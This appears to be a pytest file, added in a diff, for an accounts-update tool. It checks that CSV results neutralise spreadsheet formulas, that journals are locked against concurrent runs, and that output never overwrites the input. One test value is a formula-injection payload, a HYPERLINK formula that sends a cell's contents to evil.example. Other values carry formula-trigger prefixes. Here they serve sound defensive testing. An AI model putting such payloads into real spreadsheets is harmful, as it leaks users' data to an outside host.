@@ -1,0 +1,197 @@
+"""The accounts job's own files: results safe to open in Excel, one run per journal, never written over the input."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from test_accounts_parts import OWNER
+
+from flows import journal as journal_module
+from flows.journal import Journal, JournalInUseError
+from flows.outcomes import RowOutcome
+from flows.spreadsheet import AccountRow, write_results
+
+pytestmark = pytest.mark.tooling  # the library's own parts: no portal
+
+ROOT = Path(__file__).parent.parent
+NOWHERE = "http://127.0.0.1:9/"  # nothing listens there: a job that got as far as a browser would fail
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+# A run that holds its journal until it is killed; it says so once it does.
+HOLDER = """
+import sys, time
+from flows.journal import Journal
+journal = Journal(sys.argv[1], owner={"base_url": "http://127.0.0.1:8000/", "user": "admin-agent"})
+print("holding", flush=True)
+time.sleep(120)
+"""
+
+
+def changes_file(tmp_path: Path) -> Path:
+    """Return a file of one row of changes."""
+    file = tmp_path / "changes.csv"
+    file.write_text("customer,city\r\nContoso,Lyon\r\n", encoding="utf-8")
+    return file
+
+
+def update_accounts(file: Path, *extra: str) -> subprocess.CompletedProcess[str]:
+    """Run ``python -m flows update-accounts FILE`` against a portal that is not there."""
+    command = [sys.executable, "-m", "flows", "update-accounts", str(file), "--base-url", NOWHERE,
+               "--user", "global-admin", *extra]  # fmt: skip
+    return subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=ROOT)
+
+
+def test_results_csv_cells_excel_would_run_as_formulas_are_written_inert(tmp_path: Path) -> None:
+    # Given an outcome where the row, the portal, a message and a column's name each start a formula
+    outcome = RowOutcome(
+        2, HYPERLINK, "invalid", "", wanted={"city": "+33 Lyon", "@x": "1"}, before={"city": "-1"},
+        after={"city": "\tcmd"}, messages=["\r=1+1"],
+    )  # fmt: skip
+    kept = outcome.as_dict()
+
+    write_results(tmp_path / "r.csv", [outcome])
+    write_results(tmp_path / "r.json", [outcome])
+
+    # Then the CSV shows each as text behind a quote; the outcome and the JSON results keep the values as they are
+    with (tmp_path / "r.csv").open(newline="", encoding="utf-8-sig") as file:
+        header, row = list(csv.reader(file))
+    assert header[4:10] == ["city wanted", "city before", "city after", "'@x wanted", "'@x before", "'@x after"]
+    assert row == [
+        "2",
+        f"'{HYPERLINK}",
+        "invalid",
+        "",
+        "'+33 Lyon",
+        "'-1",
+        "'\tcmd",
+        "1",
+        "",
+        "",
+        "'\r=1+1",
+        "0.00",
+        "",
+    ]
+    assert outcome.as_dict() == kept
+    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8")) == [kept]
+
+
+def test_results_csv_starts_with_a_bom_so_excel_on_windows_reads_names_as_utf_8(tmp_path: Path) -> None:
+    write_results(
+        tmp_path / "r.csv", [RowOutcome(2, "趋势信息有限公司", "changed"), RowOutcome(3, "Société Lyonnaise", "failed")]
+    )
+
+    data = (tmp_path / "r.csv").read_bytes()
+
+    assert data.startswith(codecs.BOM_UTF8)
+    assert data.decode("utf-8-sig").splitlines() == [
+        "row,customer,outcome,customer_id,messages,seconds,trace",
+        "2,趋势信息有限公司,changed,,,0.00,",
+        "3,Société Lyonnaise,failed,,,0.00,",
+    ]
+
+
+def test_a_second_run_on_a_journal_in_use_is_refused_and_the_first_one_s_record_stays_whole(tmp_path: Path) -> None:
+    # Given a run writing its journal, one row finished
+    path = tmp_path / "run.journal"
+    rows = [AccountRow(n, f"Customer {n}", {"city": "Lyon"}) for n in (2, 3)]
+    with Journal(path, owner=OWNER) as first:
+        first.number(rows)
+        first.finished(rows[0], RowOutcome(2, "Customer 2", "changed"))
+
+        # When another run opens it, afresh or resuming, then it is refused, naming the journal and the run
+        said = rf"Another run \(pid {os.getpid()}\) is using the journal {re.escape(str(path))}: wait for it"
+        for resume in (False, True):
+            with pytest.raises(JournalInUseError, match=said):
+                Journal(path, resume=resume, owner=OWNER)
+        Journal(path, resume=True, owner=OWNER, read_only=True).close()  # a dry run only reads: not refused
+        first.finished(rows[1], RowOutcome(3, "Customer 3", "changed"))
+
+    # And the first run's record is whole: a resume knows both rows finished
+    assert b"\0" not in path.read_bytes()
+    with Journal(path, resume=True, owner=OWNER) as resumed:
+        resumed.number(rows)
+        assert [getattr(resumed.final(row), "outcome", None) for row in rows] == ["changed", "changed"]
+
+
+def test_a_run_holds_its_journal_while_it_lives_and_a_crash_leaves_it_free(tmp_path: Path) -> None:
+    path = tmp_path / "run.journal"
+    with subprocess.Popen(
+        [sys.executable, "-c", HOLDER, str(path)], cwd=ROOT, stdout=subprocess.PIPE, text=True
+    ) as run:
+        try:
+            assert run.stdout is not None and run.stdout.readline() == "holding\n"
+            with pytest.raises(JournalInUseError, match=rf"Another run \(pid {run.pid}\)"):
+                Journal(path, owner=OWNER)
+        finally:
+            run.kill()  # as a crash: the journal is never closed
+            run.wait()
+
+    with Journal(path, resume=True, owner=OWNER) as next_run:
+        assert next_run.found
+
+
+def test_without_flock_a_pid_lock_file_holds_the_journal_and_a_gone_run_s_is_taken_over(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Given no flock (as on Windows), and the lock file of a run that crashed
+    monkeypatch.setattr(journal_module, "fcntl", None)
+    path, lock = tmp_path / "run.journal", tmp_path / "run.journal.lock"
+    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    lock.write_text(gone.stdout)
+
+    # Then a run takes the lock over, another is refused while it runs, and the lock goes with the run
+    with Journal(path, owner=OWNER):
+        assert lock.read_text() == f"{os.getpid()}\n"
+        said = (
+            rf"Another run \(pid {os.getpid()}\) is using the journal .* \(if none runs, remove {re.escape(str(lock))}"
+        )
+        with pytest.raises(JournalInUseError, match=said):
+            Journal(path, resume=True, owner=OWNER)
+    assert not lock.exists()
+
+
+def test_the_same_job_started_twice_stops_at_once_naming_the_journal_and_the_first_job(tmp_path: Path) -> None:
+    # Given the first job, still writing its journal
+    file, journal = changes_file(tmp_path), tmp_path / "changes.csv.results.csv.journal"
+    with Journal(journal, owner=OWNER):
+        written = journal.read_bytes()
+
+        # When the same command is run again
+        done = update_accounts(file)
+
+        # Then it stops before any browser, with a usage error's code, and leaves the journal alone
+        said = f"error: Another run (pid {os.getpid()}) is using the journal {journal}: wait for it to end"
+        assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
+        assert done.stderr.startswith(said), done.stderr
+        assert journal.read_bytes() == written
+
+
+@pytest.mark.parametrize(
+    ("results", "said"),
+    [
+        pytest.param("changes.csv", "--results {results} is the input file", id="the-input"),
+        pytest.param("sub/../changes.csv", "--results {results} is the input file", id="another-spelling"),
+        pytest.param("link.csv", "--results {results} is the input file", id="a-link-to-it"),
+        pytest.param("r.csv", "the journal {results}.journal (PATH.journal of --results) is the input", id="journal"),
+    ],
+)
+def test_results_or_journal_over_the_input_file_is_a_usage_error_before_anything_runs(
+    tmp_path: Path, results: str, said: str
+) -> None:
+    file = changes_file(tmp_path)
+    (tmp_path / "link.csv").symlink_to(file)
+    (tmp_path / "r.csv.journal").symlink_to(file)
+    content = file.read_bytes()
+
+    done = update_accounts(file, "--results", str(tmp_path / results))
+
+    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
+    assert done.stderr.startswith("error: " + said.format(results=tmp_path / results)), done.stderr
+    assert file.read_bytes() == content
